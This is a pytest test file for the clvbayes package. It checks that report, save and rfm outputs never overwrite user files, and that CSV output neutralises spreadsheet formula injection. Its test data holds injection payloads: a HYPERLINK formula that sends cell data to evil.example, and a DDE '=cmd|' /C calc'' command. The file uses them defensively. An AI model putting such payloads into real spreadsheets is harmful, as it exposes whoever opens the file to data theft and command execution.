"""Outputs never destroy what the user owns (issue 20: data loss 1-3, files 11, CSV injection 16).

Each test replays a case of the issue with real files: a report into a folder of the
user's, into the folder of its input or the current folder; ``clvbayes.save`` onto a
folder; ``clvbayes rfm --out`` onto its input; a SIGTERM during the fit, two runs racing
on one folder (real subprocesses); a full disk (a real tmpfs when it can be mounted);
and ids that a spreadsheet would run as formulas. The oracle for "intact" is the bytes of
every file before and after.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import clvbayes
import clvbayes.io
import clvbayes.report.output
from clvbayes.cli import main
from clvbayes.datasets import load_cdnow
from clvbayes.files import spreadsheet_safe, write_table
from clvbayes.report import FILES, ReportOptions, ReportTarget, build_report, write_report
from clvbayes.report.output import MARKER

ROOT = Path(__file__).resolve().parents[1]
COLS = ["--customer-col", "customer_id", "--date-col", "date", "--value-col", "value"]
FAST = ["--calibration-end", "1997-09-30", "--method", "map", "--draws", "50", "--chains", "1"]
EVIL_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\tcmd",
    "\rcr",
]
EVIL_SEGMENT = "=cmd|' /C calc'!A0"


def _snapshot(folder: Path) -> dict[str, bytes]:
    """Every file under ``folder`` (hidden ones too) with its bytes."""
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


def _hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


def _one_error_line(capsys) -> str:
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("clvbayes: error: "), lines
    return lines[0]


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT)}


def _rest_of_stderr(proc: subprocess.Popen, timeout: float) -> str:
    """Read ``proc``'s stderr to the end and wait for it (killed after ``timeout`` s)."""
    watchdog = threading.Timer(timeout, proc.kill)
    watchdog.start()
    try:
        rest = proc.stderr.read()
        proc.wait()
    finally:
        watchdog.cancel()
    return rest


@pytest.fixture(scope="module")
def sample(tmp_path_factory) -> Path:
    """300 customers of the CDNOW sample as Parquet (strings kept exactly), six of them
    renamed to formula-like ids, and a segment column with a formula-like segment."""
    tx = load_cdnow("sample")
    tx = tx[tx["customer_id"].isin(tx["customer_id"].unique()[:300])].copy()
    tx["customer_id"] = tx["customer_id"].astype(str)
    for old, new in zip(tx["customer_id"].unique()[:6], EVIL_IDS, strict=True):
        tx.loc[tx["customer_id"] == old, "customer_id"] = new
    tx["channel"] = np.where(tx.index % 3 == 0, "web", EVIL_SEGMENT)
    path = tmp_path_factory.mktemp("input") / "orders.parquet"
    tx.to_parquet(path, index=False)
    return path


@pytest.fixture(scope="module")
def built(sample):
    """One built report (MAP fits, segments), written by several tests."""
    options = ReportOptions(customer_col="customer_id", date_col="date", value_col="value",
                            calibration_end="1997-09-30", segment_col="channel",
                            method="map", draws=50, chains=1)  # fmt: skip
    return build_report(sample, options)


@pytest.fixture(scope="module")
def earlier(built, tmp_path_factory) -> Path:
    """An earlier report, copied where a test needs one."""
    out = tmp_path_factory.mktemp("earlier") / "report"
    write_report(built, out)
    return out


def _copy_report(earlier: Path, to: Path) -> dict[str, bytes]:
    shutil.copytree(earlier, to)
    return _snapshot(to)


# --- 1. report --out ----------------------------------------------------------------------


def test_report_refuses_a_users_folder_before_any_work(sample, tmp_path, capsys):
    mywork = tmp_path / "mywork"
    (mywork / "sub").mkdir(parents=True)
    (mywork / "thesis.docx").write_text("x")
    (mywork / "sub" / "raw.csv").write_text("y")
    before = _snapshot(mywork)
    t0 = time.perf_counter()
    assert main(["report", str(sample), *COLS, *FAST, "--out", str(mywork)]) == 2
    assert time.perf_counter() - t0 < 1.0  # checked before reading or fitting
    line = _one_error_line(capsys)  # and no progress lines: nothing was read
    assert str(mywork) in line and "'sub', 'thesis.docx'" in line
    assert "not a clvbayes report" in line and "empty or new folder" in line
    assert _snapshot(mywork) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mywork"]  # no staging, no lock


def test_report_refuses_the_folder_of_its_input(sample, tmp_path, capsys):
    data = tmp_path / "data"
    data.mkdir()
    orders = data / "orders.parquet"
    shutil.copy(sample, orders)
    before = _snapshot(tmp_path)
    for out in (data, tmp_path):  # the input's folder and a folder above it
        assert main(["report", str(orders), *COLS, *FAST, "--out", str(out)]) == 2
        line = _one_error_line(capsys)
        assert f"--out {str(out)!r} contains the input file" in line and str(orders) in line
    assert _snapshot(tmp_path) == before


def test_report_refuses_the_folder_holding_a_cac_table(sample, tmp_path, capsys):
    costs = tmp_path / "cac" / "costs.csv"
    costs.parent.mkdir()
    costs.write_text(f'segment,cac\nweb,10\n"{EVIL_SEGMENT}",12\n')
    args = ["report", str(sample), *COLS, *FAST, "--segment-col", "channel"]
    assert main([*args, "--cac", str(costs), "--out", str(costs.parent)]) == 2
    assert "contains the input file" in _one_error_line(capsys)
    assert costs.exists()


def test_report_refuses_the_current_folder_and_its_parents(sample, tmp_path, monkeypatch, capsys):
    work = tmp_path / "work"
    work.mkdir()
    (work / "notes.txt").write_text("mine")
    monkeypatch.chdir(work)
    for out in (".", "..", str(work)):
        t0 = time.perf_counter()
        assert main(["report", str(sample), *COLS, *FAST, "--out", out]) == 2
        assert time.perf_counter() - t0 < 1.0
        assert "is the current folder" in _one_error_line(capsys)
    assert sorted(p.name for p in work.iterdir()) == ["notes.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["work"]


def test_report_refuses_an_earlier_report_with_files_added(sample, earlier, tmp_path, capsys):
    out = tmp_path / "report"
    shutil.copytree(earlier, out)
    (out / "notes.txt").write_text("my notes on the report")
    (out / "figures").mkdir()
    before = _snapshot(out)
    assert main(["report", str(sample), *COLS, *FAST, "--out", str(out)]) == 2
    line = _one_error_line(capsys)
    assert "holds an earlier clvbayes report and 2 entries" in line
    assert "'figures', 'notes.txt'" in line
    assert _snapshot(out) == before


@pytest.mark.parametrize("marker", ["not json", '{"format": "something-else"}', "[1, 2]"])
def test_a_foreign_or_damaged_marker_is_not_a_report(earlier, tmp_path, built, marker):
    out = tmp_path / "report"
    shutil.copytree(earlier, out)
    (out / MARKER).write_text(marker)
    before = _snapshot(out)
    with pytest.raises(ValueError, match=r"no \.clvbayes-report marker"):
        write_report(built, out)
    assert _snapshot(out) == before


def test_a_report_folder_where_a_report_file_is_a_folder_is_refused(earlier, tmp_path, built):
    out = tmp_path / "report"
    shutil.copytree(earlier, out)
    (out / "customers.csv").unlink()
    (out / "customers.csv").mkdir()
    (out / "customers.csv" / "mine.txt").write_text("x")
    with pytest.raises(ValueError, match="1 entry that clvbayes did not write"):
        write_report(built, out)
    assert (out / "customers.csv" / "mine.txt").read_text() == "x"


def test_an_earlier_report_and_an_empty_folder_are_replaced(earlier, built, tmp_path):
    out = tmp_path / "report"
    shutil.copytree(earlier, out)
    (out / "summary.json").write_text("{}")  # so that the replacement is visible
    write_report(built, out)
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    assert json.loads((out / "summary.json").read_text())["seed"] == 0
    marker = json.loads((out / MARKER).read_text())
    assert marker == {"format": "clvbayes-report", "clvbayes_version": clvbayes.__version__,
                      "files": ["index.html", "customers.csv", "posterior.nc", "summary.json"]}  # fmt: skip
    empty = tmp_path / "empty"
    empty.mkdir()
    write_report(built, empty)
    assert sorted(p.name for p in empty.iterdir()) == sorted(FILES)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty", "report"]


def test_a_failure_or_interrupt_keeps_the_earlier_report(earlier, built, tmp_path, monkeypatch):
    out = tmp_path / "report"
    before = _copy_report(earlier, out)

    def fail(*args, **kwargs):
        raise failure

    monkeypatch.setattr(clvbayes.report.output, "save", fail)
    for failure in (RuntimeError("boom"), KeyboardInterrupt()):
        with pytest.raises(type(failure)):
            write_report(built, out)
        assert _snapshot(out) == before
        assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_interrupt_during_the_build_cleans_up(sample, earlier, tmp_path, monkeypatch):
    out = tmp_path / "report"
    before = _copy_report(earlier, out)

    def interrupted(*args, **kwargs):
        assert len(_hidden(tmp_path)) == 2  # the staging folder and the lock exist now
        raise KeyboardInterrupt

    monkeypatch.setattr(clvbayes.report, "build_report", interrupted)
    with pytest.raises(KeyboardInterrupt):
        main(["report", str(sample), *COLS, *FAST, "--out", str(out)])
    assert _snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_sigterm_during_the_fit_leaves_no_partial_folder(sample, earlier, tmp_path):
    """A real `python -m clvbayes report` (NUTS), sent SIGTERM once its fit stage began."""
    out = tmp_path / "report"
    before = _copy_report(earlier, out)
    args = [sys.executable, "-m", "clvbayes", "report", str(sample), *COLS]
    args += ["--calibration-end", "1997-09-30", "--draws", "300", "--tune", "300"]
    args += ["--chains", "2", "--out", str(out)]
    proc = subprocess.Popen(args, stderr=subprocess.PIPE, text=True, env=_env())
    seen = []
    for line in proc.stderr:
        seen.append(line)
        if "] fit BG/NBD: " in line:
            break
    assert len(_hidden(tmp_path)) == 2, seen  # staging folder and lock, during the run
    proc.send_signal(signal.SIGTERM)
    rest = _rest_of_stderr(proc, timeout=300)
    assert proc.returncode == 143, "".join(seen) + rest
    assert "clvbayes: terminated (SIGTERM); no partial output was written" in rest
    assert "Traceback" not in rest
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]  # no .report.*.partial
    assert _snapshot(out) == before


# --- 4. two reports racing on one --out -------------------------------------------------


def _report_cmd(sample: Path, out: Path, *extra: str) -> list[str]:
    return [sys.executable, "-m", "clvbayes", "report", str(sample), *COLS, *FAST, *extra,
            "--out", str(out)]  # fmt: skip


def test_second_report_on_a_busy_folder_gets_a_clear_error(sample, built, tmp_path):
    """While a run holds the folder, a second real CLI run fails fast and the first
    finishes its report.

    The first run is this process inside :class:`ReportTarget` (which the CLI uses), so
    the folder is busy for certain while the second runs: a first run in a subprocess
    could finish its fit before the second has even imported (the compile cache makes
    small fits take about a second), and then the test would race.
    """
    out = tmp_path / "report"
    with ReportTarget(out) as first:
        second = subprocess.run(
            _report_cmd(sample, out, "--quiet"), capture_output=True, text=True, env=_env(),
            timeout=300,
        )  # fmt: skip
        write_report(built, out, target=first)
    assert second.returncode == 2, second.stderr
    lines = second.stderr.strip().splitlines()
    assert len(lines) == 1 and "is being written by another clvbayes run" in lines[0], lines
    assert f"process {os.getpid()}," in lines[0] and ".report.lock" in lines[0]
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_the_lock_is_held_for_the_run_and_removed_after(tmp_path):
    out = tmp_path / "report"
    with ReportTarget(out) as first:
        assert first.lock_path.read_text() == f"{os.getpid()}\n"
        with pytest.raises(ValueError, match="is being written by another clvbayes run"):
            ReportTarget(out).__enter__()
        assert len(_hidden(tmp_path)) == 2  # the refused run removed nothing of the first
    assert list(tmp_path.iterdir()) == []  # staging (not committed) and lock removed
    with ReportTarget(out):  # free again
        pass


def test_two_reports_started_together_never_give_a_raw_error(sample, tmp_path):
    out = tmp_path / "report"
    procs = [
        subprocess.Popen(
            _report_cmd(sample, out, "--quiet"), stderr=subprocess.PIPE, text=True, env=_env()
        )
        for _ in range(2)
    ]
    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
    for code, err in results:
        assert "Traceback" not in err and "ENOTEMPTY" not in err and "Errno" not in err
        if code != 0:  # the loser (unless the runs did not overlap at all)
            assert code == 2 and "is being written by another clvbayes run" in err, err
    assert 0 in [code for code, _ in results]
    assert sorted(p.name for p in out.iterdir()) == sorted(FILES)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


# --- 5. a full disk ---------------------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A 3 MB tmpfs (skipped where mounting is not permitted)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=3m", "tmpfs", str(mount)],
                          capture_output=True, text=True, check=False)  # fmt: skip
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({done.stderr.strip() or done.returncode})")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=False)


def _fill(disk: Path, leave: int) -> None:
    """Fill ``disk`` up to ``leave`` free bytes."""
    stat = os.statvfs(disk)
    (disk / "filler").write_bytes(b"\0" * (stat.f_bavail * stat.f_frsize - leave))


def test_a_full_disk_gives_one_line_and_keeps_the_earlier_outputs(
    sample, earlier, small_disk, capsys
):
    out = small_disk / "report"
    before = _copy_report(earlier, out)
    rfm_out = small_disk / "rfm.csv"
    rfm_out.write_text("an earlier table\n")
    assert sum(len(b) for b in before.values()) > 100_000  # more than the space left below
    _fill(small_disk, leave=64 * 1024)
    assert main(["report", str(sample), *COLS, *FAST, "--quiet", "--out", str(out)]) == 2
    line = _one_error_line(capsys)
    assert f"cannot write the report to {str(out)!r}: No space left on device" in line
    assert "an earlier report is intact" in line
    assert _snapshot(out) == before
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "report", "rfm.csv"]
    (small_disk / "filler").unlink()
    _fill(small_disk, leave=4096)
    rfm_args = ["rfm", str(sample), "--customer-col", "customer_id", "--date-col", "date"]
    assert main([*rfm_args, "--out", str(rfm_out)]) == 2
    line = _one_error_line(capsys)
    assert f"cannot write {str(rfm_out)!r}: No space left on device" in line
    assert rfm_out.read_text() == "an earlier table\n"
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "report", "rfm.csv"]


def test_a_write_error_is_one_line_without_a_tmpfs(sample, earlier, tmp_path, monkeypatch, capsys):
    """The same path where no tmpfs can be mounted: the write raises ENOSPC."""
    out = tmp_path / "report"
    before = _copy_report(earlier, out)

    def no_space(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(clvbayes.report.output, "save", no_space)
    assert main(["report", str(sample), *COLS, *FAST, "--quiet", "--out", str(out)]) == 2
    line = _one_error_line(capsys)
    assert "No space left on device" in line and "Errno" not in line
    assert _snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


# --- 2. clvbayes.save ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def fits(earlier):
    return clvbayes.load(earlier / "posterior.nc")


def test_save_onto_a_users_folder_removes_nothing(fits, tmp_path):
    userdir = tmp_path / "userdir.nc"
    userdir.mkdir()
    (userdir / "data.csv").write_text("mine")
    with pytest.raises(IsADirectoryError, match="is a folder"):
        clvbayes.save(fits["bgnbd"], userdir)
    store = tmp_path / "store.zarr"
    store.mkdir()
    (store / "data.csv").write_text("mine")
    with pytest.raises(FileExistsError, match=r"not a zarr store written by clvbayes\.save"):
        clvbayes.save(fits["bgnbd"], store)
    afile = tmp_path / "file.zarr"
    afile.write_text("mine")
    with pytest.raises(FileExistsError, match="not a zarr store"):
        clvbayes.save(fits, afile)
    assert (userdir / "data.csv").read_text() == "mine"
    assert (store / "data.csv").read_text() == "mine" and afile.read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file.zarr", "store.zarr", "userdir.nc"]


def test_save_replaces_a_zarr_store_it_wrote_and_no_other(fits, tmp_path):
    store = tmp_path / "fits.zarr"
    clvbayes.save(fits["bgnbd"], store)
    clvbayes.save(fits, store)  # a store save wrote: replaced
    assert set(clvbayes.load(store)) == {"bgnbd", "gamma_gamma"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fits.zarr"]
    (store / "notes.txt").write_text("mine")  # now it holds something save did not write
    with pytest.raises(FileExistsError, match=r"not a zarr store written by clvbayes\.save"):
        clvbayes.save(fits["bgnbd"], store)
    assert (store / "notes.txt").read_text() == "mine"
    assert set(clvbayes.load(store)) == {"bgnbd", "gamma_gamma"}


def test_save_replaces_a_file_atomically(fits, tmp_path, monkeypatch):
    path = tmp_path / "model.nc"
    path.write_bytes(b"an older file")
    clvbayes.save(fits["bgnbd"], path)
    assert clvbayes.load(path).kind == "BGNBD"
    before = path.read_bytes()

    def half_written(self, target, **kwargs):
        Path(target).write_bytes(b"partial")
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(clvbayes.io.xr.DataTree, "to_netcdf", half_written)
    with pytest.raises(OSError, match="No space left"):
        clvbayes.save(fits["gamma_gamma"], path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["model.nc"]


@pytest.mark.parametrize(
    ("models", "what"),
    [({"x": 1}, "'x' is a int"), (object(), "got object"), ({}, "empty dict"),
     ([1], "got list"), ("bgnbd", "got str")],
)  # fmt: skip
def test_save_of_something_else_is_a_type_error(models, what, tmp_path):
    with pytest.raises(TypeError, match="save accepts a FittedModel") as info:
        clvbayes.save(models, tmp_path / "m.nc")
    assert what in str(info.value)
    assert list(tmp_path.iterdir()) == []


def test_save_with_a_non_string_name_is_a_type_error(fits, tmp_path):
    with pytest.raises(TypeError, match="key 1 is a int"):
        clvbayes.save({1: fits["bgnbd"]}, tmp_path / "m.nc")


# --- 3. rfm --out -------------------------------------------------------------------------


@pytest.fixture
def basic(tmp_path) -> Path:
    path = tmp_path / "basic.csv"
    path.write_text("customer_id,date,value\n1,2020-01-01,5\n1,2020-02-01,7\n2,2020-01-05,3\n")
    return path


RFM = ["--customer-col", "customer_id", "--date-col", "date", "--value-col", "value"]


def test_rfm_refuses_to_write_over_its_input(basic, tmp_path, monkeypatch, capsys):
    before = basic.read_bytes()
    (tmp_path / "sub").mkdir()
    (tmp_path / "link.csv").symlink_to(basic)
    os.link(basic, tmp_path / "hard.csv")
    monkeypatch.chdir(tmp_path / "sub")
    cases = [
        (str(basic), str(basic)),
        ("../basic.csv", str(basic)),  # relative
        (str(basic), "../sub/../basic.csv"),
        (str(tmp_path / "link.csv"), str(basic)),  # the input through a symbolic link
        (str(basic), str(tmp_path / "link.csv")),
        (str(basic), str(tmp_path / "hard.csv")),  # a hard link: the same file
    ]
    for source, out in cases:
        assert main(["rfm", source, *RFM, "--out", out]) == 2, (source, out)
        line = _one_error_line(capsys)
        assert f"--out {out!r} is the input file" in line and "Choose another output" in line
    assert basic.read_bytes() == before
    assert (tmp_path / "link.csv").is_symlink()


def test_rfm_out_that_is_a_folder_is_a_clear_error(basic, tmp_path, capsys):
    folder = tmp_path / "dir.csv"
    folder.mkdir()
    (folder / "x").write_text("mine")
    assert main(["rfm", str(basic), *RFM, "--out", str(folder)]) == 2
    assert f"--out {str(folder)!r} is a folder; give a file name" in _one_error_line(capsys)
    assert (folder / "x").read_text() == "mine"


def test_rfm_replaces_an_earlier_output_file(basic, tmp_path):
    out = tmp_path / "rfm.csv"
    out.write_text("old")
    assert main(["rfm", str(basic), *RFM, "--out", str(out)]) == 0
    assert list(pd.read_csv(out)["frequency"]) == [1, 0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["basic.csv", "rfm.csv"]


# --- 6. CSV injection -------------------------------------------------------------------


def test_rfm_csv_neutralises_formula_ids(tmp_path):
    tx = pd.DataFrame({
        "customer_id": [*EVIL_IDS, "-7", "plain"],
        "date": pd.to_datetime(["2020-01-01"] * 8),
        "value": [5.0] * 8,
    })  # fmt: skip
    tx = pd.concat([tx, tx.assign(date=pd.Timestamp("2020-02-01"), value=2.0)])
    source = tmp_path / "tx.parquet"
    tx.to_parquet(source, index=False)
    out = tmp_path / "rfm.csv"
    args = ["rfm", str(source), *RFM, "--time-unit", "D"]
    assert main([*args, "--out", str(out)]) == 0
    got = pd.read_csv(out, dtype={"customer_id": str}, keep_default_na=False)
    expected = ["'" + i for i in EVIL_IDS] + ["-7", "plain"]
    assert sorted(got["customer_id"]) == sorted(expected)
    assert got["frequency"].dtype == np.int64 and (got["frequency"] == 1).all()
    assert (got["monetary_value"] == 2.0).all()
    lines = out.read_text().splitlines()  # "\r" in a cell: CRLF lines, the cell quoted
    assert not [line for line in lines[1:] if line.lstrip('"').startswith(("=", "+", "@", "\t"))]
    assert out.read_bytes().count(b"\r\n") == len(got) + 1
    # Parquet is not opened by spreadsheets: kept exactly
    pq = tmp_path / "rfm.parquet"
    assert main([*args, "--out", str(pq)]) == 0
    assert sorted(pd.read_parquet(pq)["customer_id"]) == sorted([*EVIL_IDS, "-7", "plain"])


def test_write_table_keeps_numbers_numbers(tmp_path):
    frame = pd.DataFrame({"id": ["-2+3", "a"], "value": [-2.5, 3.0], "n": [-1, 2]})
    write_table(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text() == "id,value,n\n'-2+3,-2.5,-1\na,3.0,2\n"
    got = pd.read_csv(tmp_path / "t.csv")
    assert list(got["value"]) == [-2.5, 3.0] and list(got["n"]) == [-1, 2]


def test_customers_csv_neutralises_ids_and_segments(earlier, built):
    customers = pd.read_csv(earlier / "customers.csv", dtype={"customer_id": str},
                            keep_default_na=False)  # fmt: skip
    ids = set(customers["customer_id"])
    assert {"'" + i for i in EVIL_IDS} <= ids
    assert not any(i.startswith(("=", "+", "-", "@", "\t", "\r")) for i in ids)
    assert set(customers["segment"]) == {"web", "'" + EVIL_SEGMENT}
    assert (customers.select_dtypes("number").columns == list(customers.columns[2:])).all()
    # the frame in memory keeps the real ids
    assert set(EVIL_IDS) <= set(built.customers["customer_id"])


def test_spreadsheet_safe_rules():
    frame = pd.DataFrame({
        "id": [*EVIL_IDS, "-5", "+1.5e3", "ok", None],
        "x": [-1.0, 2, 3, -4, 5, 6, -7, 8, 9, np.nan],
        "mixed": pd.Series([-1, "-1+1", 2.5, "=A1", "a", None, 3, "b", "c", "d"], dtype=object),
        "seg": pd.Categorical(["@a", "b"] * 5),
        "=sum(1)": 1,
    })  # fmt: skip
    before = frame.copy()
    safe = spreadsheet_safe(frame)
    pd.testing.assert_frame_equal(frame, before)  # not mutated
    assert list(safe["id"][:9]) == [*("'" + i for i in EVIL_IDS), "-5", "+1.5e3", "ok"]
    assert pd.isna(safe["id"][9])
    pd.testing.assert_series_equal(safe["x"], frame["x"])
    assert list(safe["mixed"][:5]) == [-1, "'-1+1", 2.5, "'=A1", "a"]
    assert list(safe["seg"][:2]) == ["'@a", "b"]
    assert list(safe.columns) == ["id", "x", "mixed", "seg", "'=sum(1)"]
    plain = pd.DataFrame({"id": ["a", "b"], "v": [-1, 2]})
    assert spreadsheet_safe(plain) is plain
